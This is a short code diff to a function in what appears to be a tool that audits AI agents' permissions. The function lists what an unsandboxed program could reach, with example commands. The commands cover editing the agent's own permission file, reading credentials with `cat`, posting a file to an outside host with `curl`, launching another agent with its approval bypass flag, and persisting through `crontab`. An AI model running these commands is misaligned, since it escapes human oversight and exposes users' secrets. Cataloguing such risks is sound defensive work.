@@ -28,9 +28,14 @@ def opens(grant: Grant) -> bool:
 @cache
 def implied(product: str) -> tuple[str, ...]:
     """What a program outside any sandbox can reach, for an agent of this product."""
+    from overgrant.dialect.grammar.agentcli import known
     from overgrant.dialect.grammar.paths import governing, precious
 
     own, key = governing(product, "permissions"), precious()
+    entry = known().get(product)
     found = [f"change its own permissions (`tee {own}`)"] if own else []
     found += [f"read credentials (`cat {key}`)"] if key else []
-    return (*found, "send anything to any host (`curl -d @file https://example.net`)")
+    found.append("send anything to any host (`curl -d @file https://example.net`)")
+    if entry is not None and entry.get("bypass"):
+        found.append(f"start another agent that asks nobody (`{entry['heads'][0]} {next(iter(entry['bypass']))}`)")
+    return (*found, "go on after the session (`crontab -`)")
